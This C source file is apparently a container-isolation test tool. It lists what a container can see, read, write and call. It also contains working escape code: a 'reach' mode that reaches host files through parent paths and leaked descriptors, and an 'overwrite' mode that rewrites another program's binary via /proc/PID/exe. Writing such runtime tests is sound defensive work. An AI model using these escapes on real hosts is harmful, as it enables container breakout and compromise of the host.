/*
 * What a container sees and may do, one fact a line, so that two runtimes and two days can be compared. Also the attacker:
 * `probe overwrite` waits for somebody else's program to run in its sight and tries to overwrite it.
 *
 *	probe                     facts
 *	probe reach FILE          0: FILE can be read by going up from the working directory or through a descriptor
 *	probe overwrite SECONDS   0: a program that is not the container's own was opened for writing
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

static int by_name(const void *a, const void *b)
{
	return strcmp(*(char *const *)a, *(char *const *)b);
}

/* Names in a directory, sorted; numbers are left out where they are processes. */
static size_t names_in(const char *path, bool numbers, char **names, size_t most)
{
	DIR *dir = opendir(path);
	struct dirent *entry;
	size_t n = 0;

	while (dir != NULL && (entry = readdir(dir)) != NULL && n < most)
		if (entry->d_name[0] != '.' && (numbers || entry->d_name[0] < '0' || entry->d_name[0] > '9'))
			names[n++] = strdup(entry->d_name);
	if (dir != NULL)
		closedir(dir);
	qsort(names, n, sizeof(*names), by_name);
	return n;
}

static void show_names(const char *title, const char *path)
{
	char *names[4096];
	size_t n = names_in(path, false, names, 4096);

	for (size_t i = 0; i < n; i++)
		printf("%s %s\n", title, names[i]);
}

static void show_file(const char *title, const char *path, const char *const *keys)
{
	FILE *file = fopen(path, "r");
	char line[4096];

	while (file != NULL && fgets(line, sizeof(line), file) != NULL) {
		bool wanted = keys == NULL;

		for (size_t i = 0; !wanted && keys[i] != NULL; i++)
			wanted = strncmp(line, keys[i], strlen(keys[i])) == 0;
		if (wanted)
			printf("%s %s", title, line);
	}
	if (file != NULL)
		fclose(file);
}

static void show_descriptors(void)
{
	char path[64], target[PATH_MAX];

	for (int fd = 0; fd < 1024; fd++) {
		ssize_t n;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		n = readlink(path, target, sizeof(target) - 1);
		if (n < 0)
			continue;
		target[n] = '\0';
		printf("fd %d %s\n", fd, fd < 3 ? "standard" : target);
	}
}

/* Where and what, with the options of the mount; in order of the place, later ones over earlier ones. */
static void show_mounts(void)
{
	FILE *file = fopen("/proc/self/mountinfo", "r");
	char line[8192], at[4096], options[1024], type[256];

	while (file != NULL && fgets(line, sizeof(line), file) != NULL) {
		char *dash = strstr(line, " - ");

		if (dash == NULL || sscanf(line, "%*d %*d %*s %*s %4095s %1023s", at, options) != 2 ||
		    sscanf(dash, " - %255s", type) != 1)
			continue;
		printf("mount %s %s %s%s\n", at, strcmp(at, "/") == 0 ? "root" : type, options,
		       strstr(line, "shared:") != NULL   ? " shared"
		       : strstr(line, "master:") != NULL ? " slave"
							 : "");
	}
	if (file != NULL)
		fclose(file);
}

static void show_devices(void)
{
	char *names[256], path[PATH_MAX];
	size_t n = names_in("/dev", true, names, 256);

	for (size_t i = 0; i < n; i++) {
		struct stat st;

		snprintf(path, sizeof(path), "/dev/%s", names[i]);
		if (lstat(path, &st) != 0)
			continue;
		printf("device %s %o", names[i], (unsigned)st.st_mode);
		if (S_ISCHR(st.st_mode) || S_ISBLK(st.st_mode))
			printf(" %u:%u", major(st.st_rdev), minor(st.st_rdev));
		printf("\n");
	}
}

static const char *outcome(long rc)
{
	return rc >= 0 ? "yes" : strerrorname_np(errno);
}

/* Opened, never written to. */
static void show_writable(void)
{
	static const char *const paths[] = {
		"/proc/sys/kernel/core_pattern",
		"/proc/sys/kernel/modprobe",
		"/proc/sys/vm/panic_on_oom",
		"/proc/sys/net/ipv4/ip_forward",
		"/proc/sysrq-trigger",
		"/proc/irq/default_smp_affinity",
		"/proc/bus/pci",
		"/proc/kcore",
		"/proc/keys",
		"/proc/timer_list",
		"/proc/interrupts",
		"/proc/self/oom_score_adj",
		"/sys/kernel/uevent_helper",
		"/sys/power/state",
		"/sys/kernel/mm/hugepages",
		"/sys/fs/cgroup/release_agent",
		"/sys/fs/cgroup/cgroup.procs",
		"/sys/firmware",
		"/etc/x",
	};

	for (size_t i = 0; i < sizeof(paths) / sizeof(paths[0]); i++) {
		int fd = open(paths[i], O_WRONLY | O_CLOEXEC | (strcmp(paths[i], "/etc/x") == 0 ? O_CREAT : 0), 0600);
		struct stat st = { 0 };

		printf("write %s %s", paths[i], outcome(fd));
		if (fd >= 0 && fstat(fd, &st) == 0 && S_ISCHR(st.st_mode))
			printf(" (device %u:%u)", major(st.st_rdev), minor(st.st_rdev));
		printf("\n");
		if (fd >= 0)
			close(fd);
	}
}

static void show_readable(void)
{
	static const char *const paths[] = { "/proc/kcore",       "/proc/keys",       "/proc/timer_list",
					     "/proc/sched_debug", "/proc/interrupts", "/proc/latency_stats" };
	static const char *const dirs[] = { "/proc/acpi", "/proc/scsi", "/proc/asound", "/sys/firmware",
					    "/sys/devices/virtual/powercap" };
	char *names[64], byte;

	for (size_t i = 0; i < sizeof(paths) / sizeof(paths[0]); i++) {
		int fd = open(paths[i], O_RDONLY | O_CLOEXEC);

		printf("read %s %s %s\n", paths[i], outcome(fd), fd >= 0 && read(fd, &byte, 1) == 1 ? "content" : "empty");
		if (fd >= 0)
			close(fd);
	}
	for (size_t i = 0; i < sizeof(dirs) / sizeof(dirs[0]); i++)
		printf("read %s %s\n", dirs[i], names_in(dirs[i], true, names, 64) == 0 ? "empty" : "content");
}

static void show_calls(void)
{
	int fd;

	printf("call mount %s\n", outcome(mount("none", "/tmp", "tmpfs", 0, NULL)));
	printf("call remount %s\n", outcome(mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL)));
	printf("call umount %s\n", outcome(umount2("/proc/kcore", MNT_DETACH)));
	printf("call mknod %s\n", outcome(mknod("/tmp/disk", S_IFBLK | 0600, makedev(8, 0))));
	fd = open("/tmp/disk", O_RDONLY | O_CLOEXEC);
	printf("call open-disk %s\n", outcome(fd));
	mknod("/tmp/kmsg", S_IFCHR | 0600, makedev(1, 11));
	fd = open("/tmp/kmsg", O_RDONLY | O_CLOEXEC | O_NONBLOCK);
	printf("call open-kmsg %s\n", outcome(fd));
	printf("call sethostname %s\n", outcome(sethostname("x", 1)));
	printf("call settime %s\n", outcome(clock_settime(CLOCK_REALTIME, &(struct timespec){ -1, 0 })));
	printf("call init_module %s\n", outcome(syscall(SYS_init_module, NULL, 0, "")));
	printf("call bpf %s\n", outcome(syscall(SYS_bpf, 99, NULL, 0)));
	printf("call keyctl %s\n", outcome(syscall(SYS_keyctl, 9999, 0, 0, 0, 0)));
	printf("call perf_event_open %s\n", outcome(syscall(SYS_perf_event_open, NULL, 0, -1, -1, 0)));
	printf("call userfaultfd %s\n", outcome(syscall(SYS_userfaultfd, -1)));
	printf("call open_by_handle_at %s\n", outcome(syscall(SYS_open_by_handle_at, -1, NULL, 0)));
	printf("call setns %s\n", outcome(setns(-1, 0)));
	printf("call chroot %s\n", outcome(chroot("/")));
	printf("call unshare-user %s\n", outcome(unshare(CLONE_NEWUSER)));
}

static int facts(void)
{
	static const char *const status[] = { "Cap", "NoNewPrivs", "Seccomp:", "Groups", "Uid", "Gid", "Umask", "Threads", NULL };
	char cwd[PATH_MAX], host[256];

	show_descriptors();
	show_file("status", "/proc/self/status", status);
	show_file("limit", "/proc/self/limits", NULL);
	show_file("oom", "/proc/self/oom_score_adj", NULL);
	printf("cwd %s\n", getcwd(cwd, sizeof(cwd)) != NULL ? cwd : strerrorname_np(errno));
	printf("host %s\n", gethostname(host, sizeof(host)) == 0 ? host : "none");
	printf("pid %d session %d\n", getpid(), getsid(0));
	show_mounts();
	show_devices();
	show_names("proc", "/proc");
	show_names("sys", "/sys");
	show_readable();
	show_writable();
	show_calls();
	return 0;
}

static bool opens(int dir, const char *path)
{
	int fd = openat(dir, path, O_RDONLY | O_CLOEXEC);

	if (fd >= 0)
		close(fd);
	return fd >= 0;
}

static int reach(const char *file)
{
	char path[PATH_MAX], up[64] = "";

	for (int i = 0; i < 12; i++) {
		snprintf(path, sizeof(path), "%s.%s", up, file);
		if (opens(AT_FDCWD, path))
			return printf("reached as %s\n", path), 0;
		strcat(up, "../");
	}
	for (int fd = 0; fd < 256; fd++)
		for (int i = 0; i < 2; i++) {
			snprintf(path, sizeof(path), "%s%s", i == 0 ? "../../../../../../../.." : ".", file);
			if (opens(fd, path))
				return printf("reached through descriptor %d\n", fd), 0;
			snprintf(path, sizeof(path), "/proc/1/fd/%d/../../../../../../..%s", fd, file);
			if (opens(AT_FDCWD, path))
				return printf("reached as %s\n", path), 0;
		}
	return 1;
}

/* Opened while it runs for reading, reopened for writing when it has ended, which is when the kernel would let one. */
static bool rewrite(int fd)
{
	static int said;
	char path[64];

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (int i = 0; i < 2000; i++) {
		int out = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);

		if (out >= 0) {
			ssize_t n = write(out, "#!/bin/evil\n", 12);

			printf("overwritten: %zd bytes\n", n);
			close(out);
			return true;
		}
		if (errno != ETXTBSY)
			break;
		usleep(1000);
	}
	if (errno != said)
		printf("not written: %s\n", strerrorname_np(errno));
	said = errno;
	return false;
}

/* For so many seconds from when it sees the first one, for which it waits as long as a busy machine may need. */
static int overwrite(int seconds)
{
	time_t until = time(NULL) + 60;
	struct stat own, root;
	bool seen = false;

	if (stat("/proc/self/exe", &own) != 0 || stat("/bin/sh", &root) != 0)
		return 2;
	while (time(NULL) < until) {
		char *names[256], path[128];
		size_t n = names_in("/proc", true, names, 256);

		for (size_t i = 0; i < n; i++) {
			struct stat st;
			int fd;

			snprintf(path, sizeof(path), "/proc/%s/exe", names[i]);
			free(names[i]);
			fd = open(path, O_RDONLY | O_CLOEXEC);
			if (fd < 0)
				continue;
			if (fstat(fd, &st) == 0 && st.st_size != own.st_size && st.st_size != root.st_size) {
				if (!seen) {
					printf("seen: a program of %lld bytes\n", (long long)st.st_size);
					until = time(NULL) + seconds;
				}
				seen = true;
				if (rewrite(fd))
					return 0;
			}
			close(fd);
		}
	}
	return seen ? 1 : 3;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 3 && strcmp(argv[1], "reach") == 0)
		return reach(argv[2]);
	if (argc == 3 && strcmp(argv[1], "overwrite") == 0)
		return overwrite(atoi(argv[2]));
	return facts();
}
